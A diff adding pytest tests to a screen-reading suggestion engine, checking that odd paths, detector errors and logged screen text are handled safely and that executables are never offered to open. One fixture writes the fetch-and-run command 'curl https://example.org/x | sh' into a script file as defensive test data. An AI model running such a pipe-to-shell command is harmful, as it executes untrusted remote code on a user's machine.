@@ -591,3 +591,90 @@ def test_retention_keeps_the_suggestions_of_aged_out_observations(store: Store, 
     gone = store.forget(observation_where="status = 'done'", keep_propositions=True)
     assert gone["observations"] == 3 and gone["suggestions"] == 0
     assert {s.id for s in store.list_suggestions(limit=100)} == {s.id for s in made}
+
+
+# -- hostile screen text -------------------------------------------------------------------
+
+
+def test_a_title_naming_no_ones_home_stops_nothing(store: Store, clock: FakeClock) -> None:
+    """"~nosuchuser/…" cannot be expanded, and a path too long for the file system cannot be
+    looked up: neither may stop the other suggestions."""
+    scenario(store)
+    see(store, "", app="Firefox", title="TODO ~nosuchuser/plan.txt - Firefox", ago=2 * HOUR,
+        observer="window")
+    see(store, "", app="gedit", title=f"*/{'x' * 300}/plan.txt - gedit", ago=2 * HOUR, observer="window")
+    for minutes in (200, 190):
+        see(store, "modified ~nosuchuser/notes-draft.md", app="", title="~nosuchuser/notes-draft.md",
+            ago=minutes * 60, observer="files")
+        see(store, "modified long", app="", title=f"/{'y' * 300}/draft.md", ago=minutes * 60,
+            observer="files")
+    made = suggester(store, clock).run(force=True)
+    assert sorted(s.kind for s in made) == ["follow_up", "follow_up", "reminder", "resume_work"]
+    assert not any("nosuchuser" in s.title + str(s.action) for s in made)
+
+
+# The detectors read screen text through these functions: a fake that fails on one marked
+# observation stands in for any input a detector cannot cope with.
+DETECTOR_SEAMS = [
+    pytest.param("_events", "reminder", id="reminders"),
+    pytest.param("_run_result", "resume_work", id="failing-runs"),
+    pytest.param("_requests", "follow_up", id="follow-ups"),
+    pytest.param("_open_action", "resume_work", id="unfinished-windows"),
+]
+
+
+@pytest.mark.parametrize("seam, kind", DETECTOR_SEAMS)
+def test_a_detector_error_costs_only_its_own_candidate(
+        store: Store, clock: FakeClock, monkeypatch: pytest.MonkeyPatch, caplog: pytest.LogCaptureFixture,
+        seam: str, kind: str) -> None:
+    import propositions.suggest as suggest_module
+
+    scenario(store)
+    marker = "Zanzibar-7 private words"
+    # One more observation of each shape, carrying the marker the failing fake reacts to.
+    marked = {
+        see(store, FAILING_RUN.replace("test_parse_amount", "test_zanzibar") + f"\n# {marker}",
+            app="gnome-terminal", title="sam@laptop: ~/code/zanzibar", ago=2 * HOUR),
+        see(store, f"Priya Raman  9:30 AM\ncan you check the {marker} on Friday at 3 pm?", app="Slack",
+            title="zanzibar - Slack", ago=HOUR),
+        see(store, marker, app="Firefox", title=f"Draft: {marker} - Firefox", ago=2 * HOUR,
+            url="https://docs.example.org/d/7"),
+    }
+    clean = {s.title for s in suggester(store, clock).candidates(NOW) if not marked & set(s.observation_ids)}
+    real = getattr(suggest_module, seam)
+
+    def failing_on_the_marker(*args: object, **kwargs: object) -> object:
+        if any(marker in str(getattr(a, "content", a)) or marker in str(getattr(a, "window_title", ""))
+               for a in args):
+            raise ValueError(f"cannot read {marker}")
+        return real(*args, **kwargs)
+
+    monkeypatch.setattr(suggest_module, seam, failing_on_the_marker)
+    with caplog.at_level("DEBUG", logger="propositions.suggest"):
+        made = suggester(store, clock).run(force=True)
+    titles = {s.title for s in made}
+    assert {"reminder", "resume_work", "follow_up"} <= {s.kind for s in made}
+    assert clean <= titles  # everything the failure did not touch was still made
+    failures = [r for r in caplog.records if r.levelname == "WARNING"]
+    assert failures, "the failure is logged"
+    for record in caplog.records:
+        assert "Zanzibar" not in record.getMessage()  # never the screen text
+    assert any("observation" in r.getMessage() for r in failures)
+
+
+def test_only_documents_are_offered_to_open(store: Store, clock: FakeClock, tmp_path: Path) -> None:
+    """A path read off the screen can name a program: such a file is never offered to open."""
+    script = tmp_path / "deploy-draft.command"  # what macOS `open` runs in a terminal
+    script.write_text("curl https://example.org/x | sh\n")
+    tool = tmp_path / "build-wip"
+    tool.write_text("#!/bin/sh\n")
+    tool.chmod(0o755)
+    doc = tmp_path / "plan-draft.md"
+    doc.write_text("# Plan\n")
+    for path in (script, tool, doc):
+        for minutes in (200, 190):
+            see(store, f"modified {path}", app="", title=str(path), ago=minutes * 60, observer="files")
+    see(store, "", app="gedit", title=f"*{tool} - gedit", ago=3 * HOUR, observer="window")
+    see(store, "", app="TextEdit", title=f"TODO {script} - TextEdit", ago=3 * HOUR, observer="window")
+    opened = [c.action.path for c in suggester(store, clock).candidates(NOW) if c.action.type == "open_file"]
+    assert opened == [str(doc)]
